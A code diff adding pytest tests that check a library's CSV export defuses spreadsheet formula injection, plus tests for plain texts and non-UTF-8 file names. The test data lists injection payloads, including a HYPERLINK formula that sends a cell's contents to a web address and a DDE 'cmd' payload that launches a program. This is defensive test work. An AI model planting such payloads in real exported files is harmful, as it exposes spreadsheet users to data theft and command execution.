@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import os
 import re
 import sys
 from collections.abc import Mapping
@@ -349,6 +351,56 @@ def test_csv_round_trip(tmp_path: Path) -> None:
     assert read["weight (mV)"].tolist() == table["weight"].tolist()
     assert read["count"].tolist() == table["count"].tolist()
     assert read["seed"].tolist() == table["seed"].tolist()
+
+
+FORMULA = '=HYPERLINK("http://example.com/?"&A2)'
+FORMULAS = [
+    *(FORMULA, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ttab"),
+    *("\ufeff=1", "\u200b=1", "\u2060+1+1", " =1", "\u00a0 \x00@x", "\uff1d1+1", "\ufe63A1"),
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_texts_are_no_formulas_in_csv(tmp_path: Path, text: str) -> None:
+    """An apostrophe makes them texts, wherever they stand; numbers stay numbers."""
+    plan = plan_of(axis(), trials=1)
+    failed = Failure(text, "", "")
+    measured = {text: Value(np.asarray(-1.5), PLAIN_NUMBER, text)}
+    counts = {"counts": Value(np.asarray([-1.5]), PLAIN_NUMBER, "counts")}
+    first, *others = plan.jobs()
+    outcomes = [Outcome(first, "done", {**measured, **counts})]
+    outcomes += [Outcome(job, "failed", {}, failed) for job in others]
+    with pytest.warns(UserWarning, match="arrays are in"):
+        path = results_of(plan, outcomes).save(tmp_path / "out.csv")
+    with path.open(encoding="utf-8", newline="") as file:
+        titles, *rows = csv.reader(file)
+    shown = "'" + text.replace("\r", "\n")  # where a program could begin another row
+    assert rows[0][titles.index(shown)] == "-1.5"
+    assert {row[titles.index("error")] for row in rows} == {"", shown}
+    assert pd.read_csv(tmp_path / "out.counts.csv")["counts"].tolist() == [-1.5]
+
+
+@pytest.mark.parametrize("text", ["", "-1.5", "-1e-3", "+2", "a=b", "mean rate", "'=1", "x - y"])
+def test_other_texts_stay_in_csv(tmp_path: Path, text: str) -> None:
+    """Numbers that are texts, too."""
+    plan = plan_of(axis(), trials=1)
+    outcomes = [Outcome(job, "failed", {}, Failure(text, "")) for job in plan.jobs()]
+    path = results_of(plan, outcomes).save(tmp_path / "out.csv")
+    with path.open(encoding="utf-8", newline="") as file:
+        assert {row["error"] for row in csv.DictReader(file)} == {text}
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".html", ".json", ".nc", ".parquet"])
+def test_texts_that_are_no_unicode_are_written_all_the_same(tmp_path: Path, suffix: str) -> None:
+    """The name of a file that is no UTF-8, above all."""
+    plan = plan_of(axis(), trials=1)
+    first, *others = plan.jobs()
+    odd = os.fsdecode(b"no file \xff.txt")
+    outcomes = [done(first, rate=1.0)]
+    outcomes += [Outcome(job, "failed", {}, Failure("OSError", odd)) for job in others]
+    results = Results("Model", results_of(plan, []).parameters, plan, outcomes, odd)
+    path = results.save(tmp_path / f"out{suffix}")
+    assert b"\\udcff.txt" in path.read_bytes()
 
 
 @pytest.mark.parametrize("number", [5.123456789012345e-12, 1 / 3, 1.23456789012345e20, 1e-300])
